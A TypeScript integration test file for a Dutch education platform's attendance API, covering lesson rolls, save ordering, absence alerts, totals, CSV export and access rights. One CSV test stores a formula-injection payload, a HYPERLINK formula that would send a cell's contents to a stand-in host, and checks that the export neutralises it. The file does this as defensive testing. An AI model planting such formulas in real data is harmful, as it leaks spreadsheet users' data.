/**
 * Attendance in-process (docs/api.md "Education", attendance): a lesson's roll without a late enrolee, saving with
 * the newest save winning, refused saves that leave nothing half-saved, the absence alert told once per crossing,
 * the totals, the CSV file and who may see what.
 */
import { and, eq } from 'drizzle-orm';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createBackend, type Backend } from '#src/backend/app';
import { addDays, amsterdamDay, amsterdamInstant, longDayText } from '#src/lib/calendar-day';
import type { DbHandle } from '#src/server/db/client';
import { attendance, educationCandidates, educationLessons, notifications } from '#src/server/db/schema';
import { memoryMailer } from '#src/server/mail/memory-mailer';
import { authHeaders, call, createUser, openTestDb, type TestUser } from '#src/server/testing/api';
import { NOTIFICATION_TYPE } from '#src/features/mailbox/notification-links';
import { ABSENCE_ALERT_QUIET_MS, ATTENDANCE_CSV_HEADERS, ATTENDANCE_TITLES } from './attendance';
import { educationWorld, openEducation, type EducationWorld } from './fixtures';

let handle: DbHandle;
let app: Backend;
let w: EducationWorld;
let educationId: string;
/** Lessons 14 and 7 days ago, today (from 00:00, so its roll is open all day) and in a week. */
let lessons: { past2: string; past1: string; today: string; ahead: string };
let teacher: TestUser;
/** Enrolled three weeks ago: on every roll. */
let anna: TestUser;
let bram: TestUser;
/** Enrolled ten days ago: not on the roll of the lesson 14 days ago. */
let late: TestUser;
const today = amsterdamDay();

beforeAll(async () => {
  handle = await openTestDb();
  app = createBackend({ db: handle.db, mailer: memoryMailer().mailer });
  w = await educationWorld(handle, app);
  const planned = await openEducation(app, w, { lessons: [-14, -7, 0, 7], candidates: 3 });
  educationId = planned.educationId;
  const [past2, past1, now, ahead] = planned.lessonIds as [string, string, string, string];
  lessons = { past2, past1, today: now, ahead };
  await handle.db.update(educationLessons).set({ startsAt: '00:00', endsAt: '01:00' }).where(eq(educationLessons.id, now));
  teacher = w.teachers[0]!;
  [anna, bram, late] = w.candidates as [TestUser, TestUser, TestUser];
  // Enrolment days in the past (the API keeps them from the day the education was made on).
  for (const [candidate, days] of [
    [anna, -21],
    [bram, -21],
    [late, -10],
  ] as const) {
    await handle.db
      .update(educationCandidates)
      .set({ enrolledOn: addDays(today, days) })
      .where(and(eq(educationCandidates.educationId, educationId), eq(educationCandidates.candidateId, candidate.id)));
  }
});

afterAll(async () => {
  await handle?.close();
});

const save = (lessonId: string, seq: number, entries: { candidateId: string; status: string; remark?: string }[], by: TestUser = teacher) =>
  call(app, 'PUT', `/api/education/lesson/${lessonId}/attendance`, by, { seq, entries });
const roll = (lessonId: string, by: TestUser = teacher) => call(app, 'GET', `/api/education/lesson/${lessonId}/roll`, by);
const alertsFor = (user: TestUser) =>
  handle.db
    .select()
    .from(notifications)
    .where(and(eq(notifications.userId, user.id), eq(notifications.type, NOTIFICATION_TYPE.absenceAlert), eq(notifications.relatedId, educationId)));
const alertedAt = async (candidate: TestUser) =>
  (
    await handle.db
      .select({ at: educationCandidates.absenceAlertedAt })
      .from(educationCandidates)
      .where(and(eq(educationCandidates.educationId, educationId), eq(educationCandidates.candidateId, candidate.id)))
  )[0]!.at;

describe('the roll of a lesson', () => {
  it('lists the candidates enrolled on or before the lesson’s day, and not a late enrolee', async () => {
    const early = await roll(lessons.past2);
    expect(early.status).toBe(200);
    expect(early.json.lesson).toMatchObject({ id: lessons.past2, day: addDays(today, -14), startsAt: '18:00', location: { id: w.locationId } });
    expect(early.json.education).toEqual({ id: educationId, title: expect.any(String), archived: false });
    expect(early.json.notYet).toBeNull();
    expect(early.json.entries.map((e: { candidate: { id: string } }) => e.candidate.id).sort()).toEqual([anna.id, bram.id].sort());
    expect(early.json.entries[0]).toMatchObject({ status: null, remark: '', recordedAt: null, recordedBy: null, seq: 0 });
    const later = await roll(lessons.past1);
    expect(later.json.entries.map((e: { candidate: { id: string } }) => e.candidate.id)).toContain(late.id);
    const ahead = (await roll(lessons.ahead)).json;
    expect(ahead.notYet).toBe(
      `De aanwezigheid van de les van ${longDayText(addDays(today, 7))} om 18:00 kan pas worden ingevuld vanaf ${longDayText(addDays(today, 7))}, 17:00 (een uur voor het begin).`,
    );
    expect(ahead.opensAt).toBe(new Date(amsterdamInstant(addDays(today, 7), '18:00').getTime() - 3_600_000).toISOString());
  });

  it('refuses a mark for a late enrolee at a lesson before they joined, naming them', async () => {
    const refused = await save(lessons.past2, 10, [{ candidateId: late.id, status: 'absent' }]);
    expect(refused.status).toBe(400);
    expect(refused.json.title).toContain(`${late.name} was op ${longDayText(addDays(today, -14))} nog niet ingeschreven`);
  });
});

describe('a lesson later today', () => {
  /** The Amsterdam day and wall-clock time `minutes` from now (`YYYY-MM-DD`, `HH:MM`). */
  function inMinutes(minutes: number): { day: string; time: string } {
    const at = new Date(Date.now() + minutes * 60_000);
    const time = new Intl.DateTimeFormat('en-GB', { timeZone: 'Europe/Amsterdam', hour: '2-digit', minute: '2-digit', hourCycle: 'h23' }).format(at);
    return { day: amsterdamDay(at), time };
  }

  it('opens its roll an hour before it starts: refused (400, saying from when) two hours ahead, taken half an hour ahead', async () => {
    const later = await openEducation(app, w, { lessons: [0], candidates: 1, teachers: [1] });
    const lessonId = later.lessonIds[0]!;
    const candidate = w.candidates[0]!;
    const startAt = async ({ day, time }: { day: string; time: string }) =>
      handle.db.update(educationLessons).set({ day, startsAt: time, endsAt: '23:59' }).where(eq(educationLessons.id, lessonId));
    const by = w.teachers[1]!;

    await startAt(inMinutes(120));
    const closed = await roll(lessonId, by);
    expect(closed.json.notYet).toMatch(/^De aanwezigheid van de les van .+ om \d\d:\d\d kan pas worden ingevuld vanaf .+, \d\d:\d\d \(een uur voor het begin\)\.$/);
    const refused = await save(lessonId, 10, [{ candidateId: candidate.id, status: 'present' }], by);
    expect(refused).toEqual({ status: 400, json: { title: closed.json.notYet } });
    expect(await handle.db.select().from(attendance).where(eq(attendance.lessonId, lessonId))).toEqual([]);

    await startAt(inMinutes(30));
    expect((await roll(lessonId, by)).json.notYet).toBeNull();
    expect((await save(lessonId, 11, [{ candidateId: candidate.id, status: 'present' }], by)).status).toBe(200);
  });
});

describe('saving the roll', () => {
  it('stores what was sent with who recorded it, and a lower seq changes nothing', async () => {
    const saved = await save(lessons.past1, 100, [{ candidateId: anna.id, status: 'present', remark: '  Op tijd  ' }]);
    expect(saved.status).toBe(200);
    expect(saved.json).toEqual({
      lessonId: lessons.past1,
      entries: [{ candidate: { id: anna.id, name: anna.name }, status: 'present', remark: 'Op tijd', recordedAt: expect.any(String), recordedBy: { id: teacher.id, name: teacher.name }, seq: 100 }],
    });
    // A late retry of an older tap from another tablet: ignored, and the answer says what is stored.
    const older = await save(lessons.past1, 90, [{ candidateId: anna.id, status: 'absent' }]);
    expect(older.status).toBe(200);
    expect(older.json.entries[0]).toMatchObject({ status: 'present', remark: 'Op tijd', seq: 100 });
    const newer = await save(lessons.past1, 101, [{ candidateId: anna.id, status: 'late' }], w.coordinator);
    expect(newer.json.entries[0]).toMatchObject({ status: 'late', remark: '', seq: 101, recordedBy: { id: w.coordinator.id } });
    const entry = (await roll(lessons.past1)).json.entries.find((e: { candidate: { id: string } }) => e.candidate.id === anna.id);
    expect(entry).toMatchObject({ status: 'late', seq: 101 });
  });

  it('refuses a status outside the four, a stranger and a lesson ahead, and saves nothing of such a save', async () => {
    const badStatus = await save(lessons.today, 200, [
      { candidateId: bram.id, status: 'present' },
      { candidateId: anna.id, status: 'ziek' },
    ]);
    expect(badStatus).toEqual({ status: 400, json: { title: `Aanwezigheid van ${anna.name}: kies aanwezig, te laat, afwezig met bericht of afwezig.` } });
    const stranger = await save(lessons.today, 200, [
      { candidateId: bram.id, status: 'present' },
      { candidateId: w.stranger.id, status: 'present' },
    ]);
    expect(stranger).toEqual({ status: 400, json: { title: 'Een van de kandidaten hoort niet bij deze opleiding. Laad de pagina opnieuw.' } });
    // A device clock far ahead would win over every later correction: refused.
    const clockAhead = await save(lessons.past1, Math.floor(Date.now() / 1000) + 3600, [{ candidateId: anna.id, status: 'absent_excused' }]);
    expect(clockAhead).toEqual({ status: 400, json: { title: ATTENDANCE_TITLES.seqAhead } });
    const ahead = await save(lessons.ahead, 200, [{ candidateId: bram.id, status: 'present' }]);
    expect(ahead.status).toBe(400);
    expect(ahead.json.title).toContain('kan pas worden ingevuld vanaf');
    expect(await handle.db.select().from(attendance).where(eq(attendance.candidateId, bram.id))).toEqual([]);
    expect((await save(lessons.today, 200, [])).status).toBe(400);
    expect((await save(lessons.today, 0, [{ candidateId: bram.id, status: 'present' }])).status).toBe(400);
  });
});

describe('the absence alert', () => {
  it('tells the coordinators and admins once when a candidate reaches the limit, and again only a week later', async () => {
    expect((await call(app, 'PUT', `/api/education/${educationId}`, w.coordinator, { title: 'Basisopleiding Magazijn', absenceLimit: 2 })).status).toBe(200);
    await save(lessons.past2, 300, [{ candidateId: bram.id, status: 'absent' }]);
    expect(await alertsFor(w.coordinator)).toHaveLength(0);
    await save(lessons.past1, 301, [{ candidateId: bram.id, status: 'absent' }]);
    const told = await alertsFor(w.coordinator);
    expect(told).toHaveLength(1);
    expect(told[0]!.message).toBe(`${bram.name} is 2 keer afwezig geweest zonder bericht bij de opleiding ‘Basisopleiding Magazijn’ en heeft daarmee de verzuimgrens bereikt.`);
    expect(await alertsFor(w.admin)).toHaveLength(1);
    expect(await alertsFor(teacher)).toHaveLength(0);
    expect(await alertedAt(bram)).toBeInstanceOf(Date);
    // The same again (a second tablet), and a third absence: no second alert.
    await save(lessons.past1, 302, [{ candidateId: bram.id, status: 'absent' }]);
    await save(lessons.today, 303, [{ candidateId: bram.id, status: 'absent' }]);
    expect(await alertsFor(w.coordinator)).toHaveLength(1);
    // Two absences turn out to be with notice: below the limit; crossing it again the same week stays quiet (marks
    // flipped back and forth never flood the coordinators) ...
    await save(lessons.today, 304, [{ candidateId: bram.id, status: 'absent_excused' }]);
    await save(lessons.past1, 305, [{ candidateId: bram.id, status: 'absent_excused' }]);
    await save(lessons.past1, 306, [{ candidateId: bram.id, status: 'absent' }]);
    expect(await alertsFor(w.coordinator)).toHaveLength(1);
    // ... but a crossing a week after the last alert is told again.
    await handle.db
      .update(educationCandidates)
      .set({ absenceAlertedAt: new Date(Date.now() - ABSENCE_ALERT_QUIET_MS - 60_000) })
      .where(and(eq(educationCandidates.educationId, educationId), eq(educationCandidates.candidateId, bram.id)));
    await save(lessons.past1, 307, [{ candidateId: bram.id, status: 'absent_excused' }]);
    await save(lessons.past1, 308, [{ candidateId: bram.id, status: 'absent' }]);
    expect(await alertsFor(w.coordinator)).toHaveLength(2);
    const unread = (await call(app, 'GET', '/api/notification', w.coordinator)).json as { type: number; relatedId: string; href: string }[];
    const link = unread.find((n) => n.type === NOTIFICATION_TYPE.absenceAlert && n.relatedId === educationId);
    expect(link?.href).toBe(`/cp/education/${educationId}#aanwezigheid`);
  });
});

describe('totals and the CSV file', () => {
  it('counts per candidate over their lessons up to today, and per lesson over its roll', async () => {
    await save(lessons.today, 400, [
      { candidateId: anna.id, status: 'present' },
      { candidateId: bram.id, status: 'absent_excused' },
      { candidateId: late.id, status: 'present' },
    ]);
    const totals = await call(app, 'GET', `/api/education/${educationId}/attendance`, w.coordinator);
    expect(totals.status).toBe(200);
    expect(totals.json).toMatchObject({ educationId, absenceLimit: 2, today });
    const of = (user: TestUser) => totals.json.candidates.find((c: { candidateId: string }) => c.candidateId === user.id);
    // Anna: unrecorded 14 days ago, late a week ago, present today; late counts as present.
    expect(of(anna)).toMatchObject({ name: anna.name, lessons: 3, present: 1, late: 1, absentExcused: 0, absent: 0, unrecorded: 1, presentPercent: 100, overLimit: false });
    expect(of(bram)).toMatchObject({ lessons: 3, absent: 2, absentExcused: 1, presentPercent: 0, overLimit: true, absenceAlertedAt: expect.any(String) });
    // The late enrolee: only the two lessons since they joined.
    expect(of(late)).toMatchObject({ lessons: 2, present: 1, unrecorded: 1, presentPercent: 100 });
    const lesson = (id: string) => totals.json.lessons.find((l: { lessonId: string }) => l.lessonId === id);
    expect(lesson(lessons.past2)).toMatchObject({ onRoll: 2, absent: 1, unrecorded: 1, presentPercent: 0 });
    expect(lesson(lessons.today)).toMatchObject({ onRoll: 3, present: 2, absentExcused: 1, presentPercent: 67 });
    expect(lesson(lessons.ahead)).toMatchObject({ onRoll: 3, unrecorded: 3, presentPercent: null });
  });

  it('gives one row per candidate × lesson, semicolon-separated with a byte order mark', async () => {
    // A remark a spreadsheet would run as a formula is written as text.
    expect((await save(lessons.today, 450, [{ candidateId: late.id, status: 'present', remark: '=HYPERLINK("https://x.example/?"&A2)' }])).status).toBe(200);
    const res = await app.request(`/api/education/${educationId}/attendance.csv`, { headers: authHeaders(teacher.token) });
    expect(res.status).toBe(200);
    expect(res.headers.get('content-type')).toBe('text/csv; charset=utf-8');
    const bytes = new Uint8Array(await res.arrayBuffer());
    expect([...bytes.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const lines = new TextDecoder().decode(bytes).trimEnd().split('\r\n');
    expect(lines[0]).toBe(ATTENDANCE_CSV_HEADERS.join(';'));
    expect(lines).toHaveLength(1 + 3 * 4);
    expect(lines.find((l) => l.includes(late.name) && l.includes('nog niet ingeschreven'))).toBeDefined();
    expect(lines.filter((l) => l.includes(anna.name) && l.includes(';te laat;'))).toHaveLength(1);
    // days and moments ISO 8601, which spreadsheets read as dates
    const annaLate = lines.find((l) => l.includes(anna.name) && l.includes(';te laat;'))!.split(';');
    expect(annaLate[3]).toMatch(/^\d{4}-\d{2}-\d{2}$/);
    expect(annaLate[4]).toMatch(/^\d{4}-\d{2}-\d{2}$/);
    expect(annaLate.at(-1)).toMatch(/^\d{4}-\d{2}-\d{2} \d{2}:\d{2}$/);
    expect(lines.find((l) => l.includes('HYPERLINK'))).toContain(`"'=HYPERLINK(""https://x.example/?""&A2)"`);
  });
});

describe('who may see what', () => {
  it('keeps other teachers out (404), candidates out (401), and shows a contact person their organisation’s candidates only', async () => {
    const other = w.teachers[1]!;
    expect((await roll(lessons.past1, other)).status).toBe(404);
    expect((await save(lessons.past1, 900, [{ candidateId: anna.id, status: 'present' }], other)).status).toBe(404);
    expect((await call(app, 'GET', `/api/education/${educationId}/attendance`, other)).status).toBe(404);
    expect((await app.request(`/api/education/${educationId}/attendance.csv`, { headers: authHeaders(other.token) })).status).toBe(404);
    expect((await roll(lessons.past1, anna)).status).toBe(401);
    expect((await call(app, 'GET', `/api/education/${educationId}/attendance`, anna)).status).toBe(401);
    expect((await roll('not-a-lesson', w.coordinator)).status).toBe(404);

    // A candidate of another organisation on the roll: not the contact person's business.
    await handle.db.insert(educationCandidates).values({ educationId, candidateId: w.stranger.id, enrolledOn: addDays(today, -21) });
    const seen = await call(app, 'GET', `/api/education/${educationId}/attendance`, w.contactPerson);
    expect(seen.status).toBe(200);
    expect(seen.json.candidates.map((c: { candidateId: string }) => c.candidateId).sort()).toEqual([anna.id, bram.id, late.id].sort());
    expect(seen.json.lessons.find((l: { lessonId: string }) => l.lessonId === lessons.today)).toMatchObject({ onRoll: 3 });
    expect((await call(app, 'GET', `/api/education/${educationId}/attendance`, w.coordinator)).json.candidates).toHaveLength(4);
    const otherContact = await createUser(handle, 'ContactPerson', { name: 'Rik Elders', organizationId: w.otherOrganizationId });
    await handle.db.delete(educationCandidates).where(and(eq(educationCandidates.educationId, educationId), eq(educationCandidates.candidateId, w.stranger.id)));
    expect((await call(app, 'GET', `/api/education/${educationId}/attendance`, otherContact)).status).toBe(404);
    expect((await app.request(`/api/education/${educationId}/attendance.csv`, { headers: authHeaders(w.contactPerson.token) })).status).toBe(401);
  });

  it('refuses changes once the education is archived', async () => {
    const archived = await openEducation(app, w, { lessons: [-3, 10], times: ['07:00', '08:00'], candidates: 1 });
    await handle.db.update(educationCandidates).set({ enrolledOn: addDays(today, -5) }).where(eq(educationCandidates.educationId, archived.educationId));
    expect((await call(app, 'POST', `/api/education/${archived.educationId}/archive`, w.coordinator)).status).toBe(200);
    const refused = await save(archived.lessonIds[0]!, 1, [{ candidateId: anna.id, status: 'present' }]);
    expect(refused).toEqual({ status: 409, json: { title: 'Deze opleiding is gearchiveerd; de aanwezigheid kan niet meer worden gewijzigd.' } });
    expect((await roll(archived.lessonIds[0]!)).json.education.archived).toBe(true);
  });
});
